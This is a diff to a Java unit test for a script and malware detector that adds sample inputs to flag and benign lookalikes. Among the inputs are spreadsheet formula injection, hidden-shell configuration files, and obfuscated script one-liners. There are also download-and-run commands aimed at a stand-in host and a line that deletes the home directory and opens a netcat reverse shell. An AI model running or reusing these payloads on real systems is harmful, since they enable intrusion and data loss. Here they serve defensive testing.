@@ -72,7 +72,54 @@ class ScriptCheckTest {
                         "a,b\n1,=C:\\Windows\\System32\\cmd|'/c calc'!A0\n2,3\n"),
                 arguments("a formula without quotes", "a,b\n1,=calc|x!A0\n2,3\n"),
                 arguments("a function", "a;b\n1;=DDE(\"soffice\";\"/etc/passwd\";\"x\")\n2;3\n"),
-                arguments("the test file of antivirus programs", eicar()));
+                arguments("the test file of antivirus programs", eicar()),
+                arguments("the test file behind a blank", " " + eicar()),
+                arguments(
+                        "a sheet of commands",
+                        "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"CALC.EXE\")\r\nE\r\n"),
+                arguments(
+                        "a set-up file",
+                        "[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n"),
+                arguments(
+                        "a remote connection",
+                        "full address:s:x.example:3389\r\nalternate shell:s:cmd.exe\r\n"),
+                arguments("an encoded script", "#@~^UgAAAA==W!x1YbWUPf+^G[`bP,AgAAA==^#~@\n"),
+                arguments("an HTML application", "<hta:application id=x><job>\n"),
+                arguments(
+                        "markup in another coding",
+                        "hi +ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
+                arguments(
+                        "javascript in one line",
+                        "var a=this[\"Act\"+\"iveXObject\"];var b=new a(\"WScr\"+\"ipt.Shell\");b[\"Run\"](\"x\");\n"),
+                arguments("python in one line", "__import__(\"os\").system(\"calc\")\n"),
+                arguments(
+                        "a download and a start",
+                        "certutil -urlcache -f http://x.example/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe\n"),
+                arguments("a page for mshta", "mshta http://x.example/a.hta\r\n"),
+                arguments(
+                        "aliases",
+                        "iwr http://x.example/a -o $env:tmp\\a.exe; saps $env:tmp\\a.exe\n"),
+                arguments(
+                        "javascript between remarks that look like fences",
+                        "/*\n```\n*/\nconst a = 1;\nlet b = function() { return a; };\nconsole.log(b());\n/*\n```\n"
+                                + "Some prose here with several words.\n*/\n"),
+                arguments(
+                        "a shell's commands between fences",
+                        "# Title\n```\ncurl http://x.example/a | sh\n```\n"),
+                arguments("a deletion", "rm -rf ~; nc -e /bin/sh x.example 4242\n"),
+                arguments(
+                        "a card with a script",
+                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nURL:java\r\n script:alert(1)\r\nEND:VCARD\r\n"),
+                arguments(
+                        "a card with a file on a share",
+                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nitem1.URL;type=x:\\\\x.example\\a\r\nEND:VCARD\r\n"),
+                arguments(
+                        "a date with a program",
+                        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:\r\n"
+                                + " TVqQAAMAAAAEAAAA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
+                arguments(
+                        "an alarm that starts one",
+                        "BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\nEND:VCALENDAR\r\n"));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -124,6 +171,34 @@ class ScriptCheckTest {
                         "To see the files, open a window and type this:\n"
                                 + "\nimport os\n\nand then the next line of this mail.\nIt prints all names there are.\n"),
                 arguments(
+                        "a log of a program",
+                        "2024-01-01 12:00:00 ERROR if (x === null) { return; } in a\n".repeat(50)),
+                arguments(
+                        "a note with a program in it",
+                        "# Title\n\n```js\nconst a = 1;\nlet b = function() { return a; };\n"
+                                + "console.log(b());\n```\n\nSome prose here with several words.\n"),
+                arguments(
+                        "a history with lines below its heads",
+                        "1.2.0 / May\n===========\n\nAdd a type\n\n1.1.0 / April\n=============\n\nFix one\n\n"
+                                + "1.0.0 / March\n=============\n\nFirst\n"),
+                arguments(
+                        "a question on a command",
+                        "Hello,\nI was told to type this:\nmshta http://x.example/a.hta\nIs that safe?\n"),
+                arguments(
+                        "a question on the test file",
+                        "Do you find X5O!P%@AP[4\\PZX54(P^)7CC)7}$?\n"),
+                arguments(
+                        "a word on scripts",
+                        "When I paste <script> in the field, nothing happens.\n"),
+                arguments(
+                        "a card",
+                        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:a\r\nURL:https://x.example/a\r\n"
+                                + "PHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRgABAQ\r\nEND:VCARD\r\n"),
+                arguments(
+                        "a date",
+                        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\n"
+                                + "ATTACH:https://x.example/a.pdf\r\nEND:VCALENDAR\r\n"),
+                arguments(
                         "a German letter",
                         "Sehr geehrte Frau Müller,\ndie Rechnung = 12 EUR; siehe Anlage.\n"));
     }
@@ -139,6 +214,10 @@ class ScriptCheckTest {
                 arguments(
                         "empty lines", "createobject echo off curl eval=\n" + "\n".repeat(60_000)),
                 arguments("numbers", "A PDF of %PDF-1.4\n" + "1".repeat(60_000)),
+                arguments("folded lines", "BEGIN:VCARD\n" + "X-A:1\n ".repeat(9_000)),
+                arguments("semicolons", "var a=" + "x;(".repeat(20_000)),
+                arguments("a sheet of nothing", "ID;" + ";E".repeat(30_000)),
+                arguments("mentions", "x <script " + "<script a='".repeat(5_000)),
                 arguments("blanks", "name,sum\n1,2\n" + " ".repeat(60_000)),
                 arguments("tabs", "x" + "\t".repeat(65_000) + "\nhello\n"),
                 arguments("begins of cells", "=a|b\n" + ",=".repeat(30_000)),
